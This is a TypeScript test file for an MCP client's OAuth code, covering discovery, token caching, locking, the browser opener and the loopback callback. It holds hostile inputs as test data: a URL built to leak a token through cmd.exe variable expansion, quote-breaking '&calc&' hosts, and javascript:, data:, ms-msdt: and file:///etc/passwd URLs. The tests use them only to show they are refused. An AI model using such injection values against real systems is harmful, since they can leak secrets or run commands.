// The OAuth parts on their own: discovery URLs and challenges, the cache, the lock, the opener, the options, the credential's clock.

import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { afterEach, describe, expect, it } from 'vitest';
import { UsageError } from '../src/config.js';
import { authorizationServerMetadataUrls, discover, isResourceFor, parseBearerChallenge, resourceMetadataUrls } from '../src/oauth/discovery.js';
import { MAX_CALLBACK_HEAD_BYTES, startCallbackServer } from '../src/oauth/callback-server.js';
import { BROWSER_URL_VARIABLE, openableUrlProblem, openBrowser, openerCommand } from '../src/oauth/browser.js';
import { withFileLock, LockTimeoutError } from '../src/oauth/file-lock.js';
import { obtainClient, refreshTokens, signIn, toStoredTokens, type FlowDeps } from '../src/oauth/flow.js';
import { createOAuthHttp, oauthUrlProblem, RefusedOAuthUrlError } from '../src/oauth/http.js';
import { OAuthCredential, refreshAt, cachedState } from '../src/oauth/oauth-credential.js';
import { LOGIN_TIMEOUT_MS, parseOAuthSettings } from '../src/oauth/settings.js';
import { cacheDirectory, TokenStore } from '../src/oauth/token-store.js';
import { createDispatcher } from '../src/remote.js';
import { Agent, type Dispatcher } from '../src/undici-parts.js';
import { startOAuthSetup } from './helpers/oauth-servers.js';

const cleanups: (() => Promise<unknown> | void)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'fenbs-oauth-parts-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 }));
  return dir;
}

const silent = pino({ level: 'silent' });
const dispatcher = () => {
  const d = createDispatcher({ connectTimeoutMs: 5000, env: {} });
  cleanups.push(() => d.close());
  return d;
};

async function serve(route: (req: IncomingMessage, res: ServerResponse, origin: string) => void): Promise<string> {
  const server = createServer((req, res) => route(req, res, origin));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  cleanups.push(() => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))));
  return origin;
}

describe('discovery', () => {
  it('tries the path-aware protected-resource URL first, then the root (RFC 9728 §3)', () => {
    expect(resourceMetadataUrls(new URL('https://a.example/v1/mcp')).map(String)).toEqual(['https://a.example/.well-known/oauth-protected-resource/v1/mcp', 'https://a.example/.well-known/oauth-protected-resource']);
    expect(resourceMetadataUrls(new URL('https://a.example/')).map(String)).toEqual(['https://a.example/.well-known/oauth-protected-resource']);
  });

  it('orders authorization-server metadata URLs as the MCP spec does: RFC 8414, then OIDC inserted, then OIDC appended', () => {
    expect(authorizationServerMetadataUrls(new URL('https://as.example/tenant1')).map(String)).toEqual([
      'https://as.example/.well-known/oauth-authorization-server/tenant1',
      'https://as.example/.well-known/openid-configuration/tenant1',
      'https://as.example/tenant1/.well-known/openid-configuration',
    ]);
    expect(authorizationServerMetadataUrls(new URL('https://as.example')).map(String)).toEqual(['https://as.example/.well-known/oauth-authorization-server', 'https://as.example/.well-known/openid-configuration']);
  });

  it('reads resource_metadata, scope and error from a Bearer challenge and ignores other schemes', async () => {
    expect(await parseBearerChallenge('Basic realm="x", Bearer error="insufficient_scope", scope="a b", resource_metadata="https://r.example/.well-known/oauth-protected-resource"')).toEqual({
      bearer: true,
      error: 'insufficient_scope',
      scope: 'a b',
      resourceMetadata: new URL('https://r.example/.well-known/oauth-protected-resource'),
    });
    expect((await parseBearerChallenge('Basic realm="x"')).bearer).toBe(false);
    expect((await parseBearerChallenge(undefined)).bearer).toBe(false);
  });

  it('accepts a resource that is the server URL or a path above it on the same origin, nothing else', () => {
    const server = new URL('https://a.example/v1/mcp');
    expect(isResourceFor(new URL('https://a.example/v1/mcp'), server)).toBe(true);
    expect(isResourceFor(new URL('https://a.example/'), server)).toBe(true);
    expect(isResourceFor(new URL('https://a.example/v2'), server)).toBe(false);
    expect(isResourceFor(new URL('https://b.example/v1/mcp'), server)).toBe(false);
  });

  it('refuses an authorization server that does not advertise PKCE S256', async () => {
    const origin = await serve((req, res, origin) => {
      const body =
        req.url === '/.well-known/oauth-protected-resource/mcp'
          ? { resource: `${origin}/mcp`, authorization_servers: [origin] }
          : req.url === '/.well-known/oauth-authorization-server'
            ? { issuer: origin, authorization_endpoint: `${origin}/auth`, token_endpoint: `${origin}/token`, code_challenge_methods_supported: ['plain'] }
            : undefined;
      if (body === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    });
    const http = createOAuthHttp(dispatcher(), false);
    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/S256/) });
  });

  it('says the server offers no sign-in when no protected-resource metadata exists', async () => {
    const origin = await serve((_req, res) => res.writeHead(404).end());
    const http = createOAuthHttp(dispatcher(), false);
    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({ message: expect.stringMatching(/no usable OAuth protected-resource metadata/) });
  });
});

describe('discovery against scripted metadata', () => {
  /** Serves the JSON `docs[path]` (a function of the origin), 404 otherwise. */
  async function metadata(docs: Record<string, (origin: string) => unknown>): Promise<string> {
    return serve((req, res, origin) => {
      const doc = docs[req.url ?? ''];
      if (doc === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc(origin)));
    });
  }
  const run = async (origin: string, header = 'Bearer') => discover(createOAuthHttp(dispatcher(), false), new URL(`${origin}/mcp`), await parseBearerChallenge(header), AbortSignal.timeout(5000));

  it('follows resource_metadata from the challenge, and falls back from RFC 8414 to OpenID Connect discovery', async () => {
    const origin = await metadata({
      '/custom-prm': (o) => ({ resource: `${o}/`, authorization_servers: [`${o}/tenant`], scopes_supported: ['s1'] }),
      '/.well-known/openid-configuration/tenant': (o) => ({ issuer: `${o}/tenant`, authorization_endpoint: `${o}/a`, token_endpoint: `${o}/t`, code_challenge_methods_supported: ['S256'] }),
    });
    const found = await run(origin, `Bearer resource_metadata="${origin}/custom-prm"`);
    expect(found).toMatchObject({ resource: new URL(`${origin}/`), scopesSupported: ['s1'], as: { issuer: `${origin}/tenant` } });
  });

  it('refuses metadata that lists no authorization server, or an authorization server without endpoints', async () => {
    const none = await metadata({ '/.well-known/oauth-protected-resource/mcp': (o) => ({ resource: `${o}/mcp`, authorization_servers: [] }) });
    await expect(run(none)).rejects.toMatchObject({ message: expect.stringMatching(/lists no authorization server/) });
    const bare = await metadata({
      '/.well-known/oauth-protected-resource': (o) => ({ resource: `${o}/mcp`, authorization_servers: [o] }),
      '/.well-known/oauth-authorization-server': (o) => ({ issuer: o }),
    });
    await expect(run(bare)).rejects.toMatchObject({ message: expect.stringMatching(/no authorization or token endpoint/) });
    const missing = await metadata({ '/.well-known/oauth-protected-resource/mcp': (o) => ({ resource: `${o}/mcp`, authorization_servers: [`${o}/nowhere`] }) });
    await expect(run(missing)).rejects.toMatchObject({ message: expect.stringMatching(/no authorization server metadata found/) });
  });

  it('refuses protected-resource metadata for another resource', async () => {
    const origin = await metadata({ '/.well-known/oauth-protected-resource/mcp': () => ({ resource: 'https://other.example/mcp', authorization_servers: ['https://as.example'] }) });
    await expect(run(origin)).rejects.toMatchObject({ message: expect.stringMatching(/no usable OAuth protected-resource metadata/) });
  });
});

describe('token cache', () => {
  it('lives in $FENBS_MCP_HOME, else $XDG_CONFIG_HOME/fenbs-mcp, else ~/.config/fenbs-mcp', () => {
    expect(cacheDirectory({ FENBS_MCP_HOME: '/h', XDG_CONFIG_HOME: '/x' }, '/home/u')).toBe('/h');
    expect(cacheDirectory({ XDG_CONFIG_HOME: '/x' }, '/home/u')).toBe(join('/x', 'fenbs-mcp'));
    expect(cacheDirectory({}, '/home/u')).toBe(join('/home/u', '.config', 'fenbs-mcp'));
  });

  it('reads a damaged entry as absent and keeps the well-formed ones', () => {
    const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
    store.write({ server: 'https://a.example/mcp', issuer: 'https://as', issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'abcd', obtainedAt: 1 } }, bad: { resource: 3 } as never } });
    expect(Object.keys(store.read().issuers)).toEqual(['https://as']);
    writeFileSync(store.file, JSON.stringify({ version: 1, server: 'https://other/mcp', issuers: {} }));
    expect(store.read().issuers).toEqual({});
    expect(store.remove()).toBe(true);
    expect(store.remove()).toBe(false);
  });

  it('refreshes ahead by a quarter of a short lifetime and by at most 60 s of a long one', () => {
    expect(refreshAt({ accessToken: 'x', obtainedAt: 0, expiresAt: 40_000 })).toBe(30_000);
    expect(refreshAt({ accessToken: 'x', obtainedAt: 0, expiresAt: 3_600_000 })).toBe(3_540_000);
    expect(refreshAt({ accessToken: 'x', obtainedAt: 0 })).toBeUndefined();
  });

  it('tells doctor whether a cached token is valid, refreshable or expired', () => {
    const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
    expect(cachedState(store, 0)).toEqual({ kind: 'none' });
    const save = (tokens: object) => store.write({ server: 'https://a.example/mcp', issuer: 'https://as', issuers: { 'https://as': { resource: 'r', tokens: { accessToken: 'x', obtainedAt: 0, ...tokens } } } });
    save({ expiresAt: 10 });
    expect(cachedState(store, 5)).toMatchObject({ kind: 'valid', expiresAt: 10 });
    expect(cachedState(store, 20)).toMatchObject({ kind: 'expired' });
    save({ expiresAt: 10, refreshToken: 'r' });
    expect(cachedState(store, 20)).toMatchObject({ kind: 'refreshable' });
  });

  it('keeps the newest refresh token, and the old one only when none came', () => {
    expect(toStoredTokens({ access_token: 'a2', token_type: 'bearer', expires_in: 10 }, 1000, { accessToken: 'a1', refreshToken: 'r1', obtainedAt: 0, scope: 's' })).toEqual({ accessToken: 'a2', refreshToken: 'r1', expiresAt: 11_000, obtainedAt: 1000, scope: 's' });
    expect(toStoredTokens({ access_token: 'a2', token_type: 'bearer', refresh_token: 'r2' }, 0).refreshToken).toBe('r2');
  });
});

describe('cross-process lock', () => {
  it('takes over a lock whose holder is a process that no longer exists', async () => {
    const path = join(tempDir(), 'x.lock');
    writeFileSync(path, JSON.stringify({ pid: 2 ** 22 + 12345, host: (await import('node:os')).hostname(), at: Date.now(), nonce: 'old' }));
    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve('ran'))).toBe('ran');
  });

  it('gives up after its bounded wait while a live process holds the lock', async () => {
    const path = join(tempDir(), 'x.lock');
    writeFileSync(path, JSON.stringify({ pid: process.ppid, host: (await import('node:os')).hostname(), at: Date.now(), nonce: 'other' }));
    let told = false;
    await expect(withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000), onWait: () => (told = true) }, () => Promise.resolve())).rejects.toBeInstanceOf(LockTimeoutError);
    expect(told).toBe(true);
    // Not ours: left in place.
    expect(JSON.parse(readFileSync(path, 'utf8')).nonce).toBe('other');
  });
});

describe('browser opener', () => {
  it('runs $BROWSER through the shell with the URL as one argument, else the system opener', () => {
    const url = 'https://as.example/auth?a=1&b=$(x)';
    expect(openerCommand(url, { BROWSER: 'firefox --new-window' }, 'linux')).toEqual({ file: '/bin/sh', args: ['-c', 'firefox --new-window "$1"', 'fenbs-mcp-browser', url], env: {}, windowsVerbatimArguments: false });
    expect(openerCommand(url, {}, 'linux')).toMatchObject({ file: 'xdg-open', args: [url] });
    expect(openerCommand(url, {}, 'darwin')).toMatchObject({ file: 'open', args: [url] });
    expect(openerCommand(url, {}, 'win32')).toMatchObject({ file: 'rundll32', args: ['url.dll,FileProtocolHandler', url] });
  });

  it('hands the URL to cmd.exe in a variable, so a %NAME% in it never becomes the value of one of the user\'s variables', () => {
    // cmd.exe expands %NAME% inside quotes too: written into the line, this URL would carry FENBS_TOKEN.
    const url = 'https://evil.example/?t=%FENBS_TOKEN%&u=!FENBS_TOKEN!';
    const command = openerCommand(url, { BROWSER: '"C:\\Program Files\\Firefox\\firefox.exe" -new-window' }, 'win32');
    expect(command).toEqual({
      file: 'cmd.exe',
      args: ['/d', '/v:off', '/s', '/c', `""C:\\Program Files\\Firefox\\firefox.exe" -new-window "%${BROWSER_URL_VARIABLE}%""`],
      env: { [BROWSER_URL_VARIABLE]: url },
      windowsVerbatimArguments: true,
    });
    expect(command.args.join(' ')).not.toContain('FENBS_TOKEN');
  });

  it('opens only canonical https URLs, and http to this machine, without a user name', () => {
    for (const url of ['https://as.example/authorize?client_id=a&state=b', 'https://xn--e1afmkfd.xn--p1ai/auth', 'http://127.0.0.1:8080/authorize', 'http://localhost/a', 'http://[::1]:9/a']) expect(openableUrlProblem(url), url).toBeUndefined();
    const refused: [string, RegExp][] = [
      ['file:///etc/passwd', /scheme is file:/],
      ['javascript:alert(1)', /scheme is javascript:/],
      ['data:text/html,<script>alert(1)</script>', /scheme is data:/],
      ['ms-msdt:/id PCWDiagnostic', /scheme is ms-msdt:/],
      ['vscode://ext/run', /scheme is vscode:/],
      ['http://evil.example/authorize', /http: to a host other than this machine/],
      ['http://127.0.0.1.evil.example/authorize', /http: to a host other than this machine/],
      ['https://fenbs.ai@evil.example/', /user name or password/],
      ['https://a:b@evil.example/', /user name or password/],
      ['HTTPS://AS.example/auth', /not written the way a browser would read it/],
      ['https://as.example/a b', /not written the way/],
      ['https://пример.рф/', /not written the way/],
      // WHATWG URL keeps a double quote in a host: it would end cmd.exe's quoting.
      ['https://a"&calc&".example/', /not written the way/],
      ['not a url', /not a URL/],
    ];
    for (const [url, reason] of refused) expect(openableUrlProblem(url), url).toMatch(reason);
  });

  it('refuses, starting nothing, a URL that may not be opened, whoever hands it over', () => {
    const errors: string[] = [];
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'http://evil.example/']) {
      expect(() => openBrowser(url, { env: { BROWSER: 'true' }, platform: 'linux', onError: (message) => errors.push(message) }), url).toThrow(expect.objectContaining({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to open .* in the browser: /) }));
    }
    expect(errors).toEqual([]);
  });

  it('tells onError when the opener cannot be started, whether spawn throws or the program is missing', async () => {
    const told: string[] = [];
    // A NUL in the environment: spawn refuses it before any process starts.
    openBrowser('https://as.example/auth', { env: { BROWSER: 'true', BROKEN: 'a\0b' }, platform: 'linux', onError: (message) => told.push(message) });
    expect(told).toEqual([expect.stringMatching(/^could not start \/bin\/sh: /)]);
    // No `open` on this machine (darwin's opener, asked on Linux): the child's error event.
    const missing = await new Promise<string>((resolve) => openBrowser('https://as.example/auth', { env: { PATH: '/nonexistent' }, platform: 'darwin', onError: resolve }));
    expect(missing).toMatch(/^could not start open: .*ENOENT/);
  });
});

describe('the one rule for OAuth requests', () => {
  /** An Agent that connects every host name to 127.0.0.1 (real sockets), so a loopback server plays as.example. */
  function everyNameOnLoopback(): Dispatcher {
    type Lookup = (hostname: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => void;
    const lookup: Lookup = (_hostname, options, callback) => (options.all === true ? callback(null, [{ address: '127.0.0.1', family: 4 }]) : callback(null, '127.0.0.1', 4));
    const agent = new Agent({ connect: { lookup } } as never) as unknown as Dispatcher;
    cleanups.push(() => agent.close());
    return agent;
  }

  /** One loopback server that answers every host name; `hosts` records the Host header of each request. */
  async function anyHost(docs: (host: string, path: string, port: string) => unknown) {
    const hosts: string[] = [];
    const origin = await serve((req, res) => {
      const host = (req.headers.host ?? '').replace(/:\d+$/, '');
      hosts.push(host);
      const doc = docs(host, req.url ?? '', new URL(origin).port);
      if (doc === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc));
    });
    return { port: new URL(origin).port, hosts };
  }

  it('allows https, http to loopback, and other plain http only with --allow-http; nothing else', () => {
    expect(oauthUrlProblem(new URL('https://as.example/token'), false)).toBeUndefined();
    expect(oauthUrlProblem(new URL('http://127.0.0.1:9/token'), false)).toBeUndefined();
    expect(oauthUrlProblem(new URL('http://as.example/token'), false)).toMatch(/plain http:\/\/ to a host other than this machine/);
    expect(oauthUrlProblem(new URL('http://as.example/token'), true)).toBeUndefined();
    expect(oauthUrlProblem(new URL('file:///etc/passwd'), true)).toMatch(/scheme is file:/);
  });

  it('refuses a plain http request to another host before connecting, and makes it with --allow-http', async () => {
    const { port, hosts } = await anyHost(() => ({ ok: true }));
    const url = `http://as.example:${port}/.well-known/oauth-authorization-server?secret=s3cr3t-value`;
    const refusal = createOAuthHttp(everyNameOnLoopback(), false).fetch(url, {});
    await expect(refusal).rejects.toBeInstanceOf(RefusedOAuthUrlError);
    await expect(refusal).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server\\?secret=\\*+: plain http`)) });
    await expect(refusal).rejects.not.toMatchObject({ message: expect.stringContaining('s3cr3t-value') });
    await expect(createOAuthHttp(everyNameOnLoopback(), true).fetch('file:///etc/passwd', {})).rejects.toMatchObject({ message: expect.stringMatching(/scheme is file:/) });
    expect(hosts).toEqual([]);
    // The user's own statement that the network is trusted: the request is made.
    expect((await createOAuthHttp(everyNameOnLoopback(), true).fetch(url, {})).status).toBe(200);
    expect(hosts).toEqual(['as.example']);
  });

  it('fetches no authorization server metadata over plain http from another host the resource metadata names', async () => {
    const { port, hosts } = await anyHost((host, path, p) =>
      path === '/.well-known/oauth-protected-resource/mcp'
        ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://as.example:${p}`] }
        : host === 'as.example' && path === '/.well-known/oauth-authorization-server'
          ? { issuer: `http://as.example:${p}`, authorization_endpoint: `https://as.example/auth`, token_endpoint: `https://as.example/token`, code_challenge_methods_supported: ['S256'] }
          : undefined,
    );
    const run = async (allowHttp: boolean) => discover(createOAuthHttp(everyNameOnLoopback(), allowHttp), new URL(`http://127.0.0.1:${port}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000));
    await expect(run(false)).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server: plain http`)) });
    expect(hosts).toEqual(['127.0.0.1']);
    expect((await run(true)).as.issuer).toBe(`http://as.example:${port}`);
  });

  it('fetches no resource metadata over plain http from another host the challenge names', async () => {
    const { port, hosts } = await anyHost((host, path, p) => (host === 'rm.example' ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] } : undefined));
    const challenge = await parseBearerChallenge(`Bearer resource_metadata="http://rm.example:${port}/.well-known/oauth-protected-resource/mcp"`);
    await expect(discover(createOAuthHttp(everyNameOnLoopback(), false), new URL(`http://127.0.0.1:${port}/mcp`), challenge, AbortSignal.timeout(5000))).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/^refused an OAuth request to http:\/\/rm\.example:\d+\/.*: plain http/),
    });
    expect(hosts).toEqual([]);
  });

  it('refuses authorization server metadata whose token, registration, revocation or device endpoint is plain http to another host', async () => {
    const discoverWith = async (endpoints: Record<string, unknown>) => {
      const { port } = await anyHost((_host, path, p) =>
        path === '/.well-known/oauth-protected-resource/mcp'
          ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] }
          : path === '/.well-known/oauth-authorization-server'
            ? { issuer: `http://127.0.0.1:${p}`, authorization_endpoint: `http://127.0.0.1:${p}/auth`, token_endpoint: `http://127.0.0.1:${p}/token`, code_challenge_methods_supported: ['S256'], ...endpoints }
            : undefined,
      );
      return discover(createOAuthHttp(everyNameOnLoopback(), false), new URL(`http://127.0.0.1:${port}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000));
    };
    for (const name of ['token_endpoint', 'registration_endpoint', 'revocation_endpoint', 'device_authorization_endpoint']) {
      await expect(discoverWith({ [name]: 'http://as.example/endpoint' }), name).rejects.toMatchObject({
        code: 'AUTH_REQUIRED',
        message: `refused the authorization server's ${name} http://as.example/endpoint: plain http:// to a host other than this machine: OAuth requests go over https (or http to loopback) unless --allow-http says the network is trusted`,
      });
    }
    await expect(discoverWith({ revocation_endpoint: 7 })).rejects.toMatchObject({ message: expect.stringMatching(/its revocation_endpoint is not a URL$/) });
    await expect(discoverWith({ token_endpoint: 'not a url' })).rejects.toMatchObject({ message: expect.stringMatching(/its token_endpoint is not a URL$/) });
    await expect(discoverWith({ authorization_endpoint: 42 })).rejects.toMatchObject({ message: expect.stringMatching(/its authorization_endpoint 42 will not be opened in a browser: it is not a URL$/) });
  });

  it('follows no redirect on an OAuth request: a 3xx to http or another scheme comes back as it is', async () => {
    const { port, hosts } = await anyHost(() => ({ reached: true }));
    const origin = await serve((req, res) => res.writeHead(req.url === '/a' ? 302 : 307, { location: req.url === '/a' ? `http://elsewhere.example:${port}/stolen` : 'file:///etc/passwd' }).end());
    const http = createOAuthHttp(everyNameOnLoopback(), true);
    expect((await http.fetch(`${origin}/a`, {})).status).toBe(302);
    expect((await http.fetch(`${origin}/b`, { method: 'POST', body: 'code=secret' })).status).toBe(307);
    expect(hosts).toEqual([]);
  });
});

describe('loopback callback', () => {
  /** Writes `request` on a raw socket to `port`; resolves with the status line of the answer ('' when the socket closed without one). */
  function raw(port: number, request: string): Promise<string> {
    return new Promise((resolve) => {
      let received = '';
      const socket = connect(port, '127.0.0.1', () => socket.write(request));
      socket.setEncoding('utf8');
      socket.on('data', (chunk: string) => (received += chunk));
      // The server may close while the request is still being written (431): an EPIPE or reset then.
      socket.on('error', () => undefined);
      socket.on('close', () => resolve(received.split('\r\n')[0] ?? ''));
    });
  }

  it('ignores every request from another local process that is not the awaited callback, and then takes the real one', async () => {
    const callback = await startCallbackServer(0, 'the-state');
    cleanups.push(() => callback.close());
    const base = `http://127.0.0.1:${callback.port}`;
    let answered = false;
    void callback.response.then(() => (answered = true));
    const get = async (path: string, init?: RequestInit) => (await fetch(`${base}${path}`, init)).status;
    expect(await get('/callback?state=wrong&code=attacker-code')).toBe(404);
    expect(await get('/callback?code=attacker-code')).toBe(404);
    expect(await get('/other?state=the-state&code=attacker-code')).toBe(404);
    expect(await get('/callback?state=the-state&code=attacker-code', { method: 'POST', body: 'x'.repeat(1024 * 1024) })).toBe(404);
    // Request targets in absolute form, authority-like or none at all: each answered, none taken for the callback.
    for (const target of ['http://[', '/\\[', 'http://a:b:c@/', '//evil.example/callback?state=the-state&code=attacker-code', '*']) {
      expect(await raw(callback.port, `GET ${target} HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n`), target).toMatch(/^HTTP\/1\.1 (400|404) /);
    }
    // A request line past the limit is refused by the parser: nothing of it reaches the handler.
    const huge = `GET /callback?state=the-state&code=${'a'.repeat(MAX_CALLBACK_HEAD_BYTES)} HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n`;
    expect(await raw(callback.port, huge)).toMatch(/^HTTP\/1\.1 431 /);
    expect(answered).toBe(false);

    expect(await get('/callback?state=the-state&code=real-code')).toBe(200);
    expect((await callback.response).get('code')).toBe('real-code');
    // A second callback after the first, with the right state too, is not taken and not told it signed in.
    expect(await get('/callback?state=the-state&code=second-code')).toBe(404);
    expect((await callback.response).get('code')).toBe('real-code');
  });
});

describe('OAuth options', () => {
  const read = (content: string) => () => content;
  it('takes the client secret from the environment or a file, never without a client id', () => {
    expect(parseOAuthSettings({ oauthClientId: 'id' }, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toMatchObject({ clientId: 'id', clientSecret: 's3', loginTimeoutMs: LOGIN_TIMEOUT_MS });
    expect(parseOAuthSettings({ oauthClientId: 'id', oauthClientSecretFile: '/f' }, {}, read(' s4\n'))).toMatchObject({ clientSecret: 's4' });
    expect(() => parseOAuthSettings({}, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toThrow(UsageError);
    expect(() => parseOAuthSettings({ oauthClientId: 'id', oauthClientSecretFile: '/f' }, {}, read(' '))).toThrow(/is empty/);
  });
  it('refuses a metadata-document URL that is not https with a path, and ports or timeouts out of range', () => {
    expect(() => parseOAuthSettings({ oauthClientMetadataUrl: 'http://a.example/c.json' }, {}, read(''))).toThrow(/https/);
    expect(parseOAuthSettings({ oauthClientMetadataUrl: 'https://a.example/c.json', oauthCallbackPort: '8765', oauthLoginTimeout: '1000' }, {}, read(''))).toMatchObject({ callbackPort: 8765, loginTimeoutMs: 1000 });
    expect(() => parseOAuthSettings({ oauthCallbackPort: '70000' }, {}, read(''))).toThrow(/--oauth-callback-port/);
  });
});

describe('client id order', () => {
  const deps = (settings: object): FlowDeps => ({
    http: createOAuthHttp(dispatcher(), false),
    settings: { clientId: undefined, clientSecret: undefined, clientMetadataUrl: undefined, callbackPort: undefined, loginTimeoutMs: 1000, ...settings },
    registerSecret: () => undefined,
    showUrl: () => undefined,
    openBrowser: () => undefined,
    now: Date.now,
  });
  const as = { issuer: 'https://as.example', client_id_metadata_document_supported: true };
  it('prefers the pre-registered client, then a metadata document where supported, and refuses when nothing works', async () => {
    const signal = AbortSignal.timeout(1000);
    expect(await obtainClient(deps({ clientId: 'pre', clientSecret: 's' }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({ kind: 'pre-registered', clientId: 'pre', clientSecret: 's' });
    const cimd = new URL('https://c.example/client.json');
    expect(await obtainClient(deps({ clientMetadataUrl: cimd }), as, undefined, 'http://127.0.0.1:1/callback', signal)).toEqual({ kind: 'metadata-document', clientId: cimd.href });
    await expect(obtainClient(deps({ clientMetadataUrl: cimd }), { issuer: 'https://as.example' }, undefined, 'http://127.0.0.1:1/callback', signal)).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/no dynamic client registration/) });
  });
});

describe('OAuthCredential on its own clock', () => {
  it('refreshes in the background ahead of expiry: the current request keeps its token, the next gets the new one', async () => {
    const setup = await startOAuthSetup({ accessTokenTtlSeconds: 3600 });
    cleanups.push(() => setup.close());
    const home = tempDir();
    let now = Date.now();
    const browser = await import('./helpers/oauth-browser-driver.js');
    const credential = new OAuthCredential({
      url: new URL(setup.mcpUrl),
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: home },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      now: () => now,
      openBrowser: (url) => void browser.approve(url),
    });
    cleanups.push(() => credential.close());
    const challenge = `Bearer resource_metadata="${new URL('/.well-known/oauth-protected-resource/mcp', setup.mcpUrl).href}"`;
    expect(await credential.renew({ status: 401, wwwAuthenticate: challenge, sent: undefined }, AbortSignal.timeout(20_000))).toBe(true);
    const first = credential.authorization();
    now += 3600_000 - 30_000;
    // Past the refresh point: this request still carries the old token while the refresh runs.
    expect(credential.authorization()).toBe(first);
    expect(await credential.renew({ status: 401, wwwAuthenticate: challenge, sent: first }, AbortSignal.timeout(20_000))).toBe(true);
    expect(credential.authorization()).not.toBe(first);
    expect(setup.grants).toEqual(['authorization_code', 'refresh_token']);
    // A 403 that is not about scope is a refusal no new token changes.
    expect(await credential.renew({ status: 403, wwwAuthenticate: 'Bearer error="invalid_token"', sent: credential.authorization() }, AbortSignal.timeout(1000))).toBe(false);
    expect(await credential.renew({ status: 401, wwwAuthenticate: 'Basic realm="x"', sent: credential.authorization() }, AbortSignal.timeout(1000))).toBe(false);
  });
});

describe('a server whose authorization server changes between calls', () => {
  /** A scripted authorization server named `name`: its metadata, registration (client-<name>) and tokens (at-<name>-<n>, rt-<name>); every request it receives is recorded. */
  async function namedAs(name: string) {
    const received: string[] = [];
    let issued = 0;
    const origin = await serve((req, res, origin) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        received.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''} ${Buffer.concat(chunks).toString()}`);
        const json = (status: number, body: unknown) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
        if (req.url === '/.well-known/oauth-authorization-server') {
          json(200, { issuer: origin, authorization_endpoint: `${origin}/auth`, token_endpoint: `${origin}/token`, registration_endpoint: `${origin}/register`, code_challenge_methods_supported: ['S256'], authorization_response_iss_parameter_supported: true });
        } else if (req.url === '/register') json(201, { client_id: `client-${name}` });
        else if (req.url === '/token') json(200, { access_token: `at-${name}-${++issued}`, token_type: 'bearer', expires_in: 3600, refresh_token: `rt-${name}` });
        else res.writeHead(404).end();
      });
    });
    return { name, origin, received };
  }

  it('keeps tokens and registrations with the issuer that issued them: nothing of one authorization server reaches the next the metadata names', async () => {
    const [a, b] = [await namedAs('a'), await namedAs('b')];
    let current = a;
    const mcp = await serve((req, res, origin) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ resource: `${origin}/mcp`, authorization_servers: [current.origin] })));
    const opened: string[] = [];
    const credential = new OAuthCredential({
      url: new URL(`${mcp}/mcp`),
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: tempDir() },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
      // The user signs in at whichever server the sign-in page belongs to; its callback carries its iss.
      openBrowser: (url) => {
        const auth = new URL(url);
        opened.push(auth.origin);
        const callback = new URL(auth.searchParams.get('redirect_uri')!);
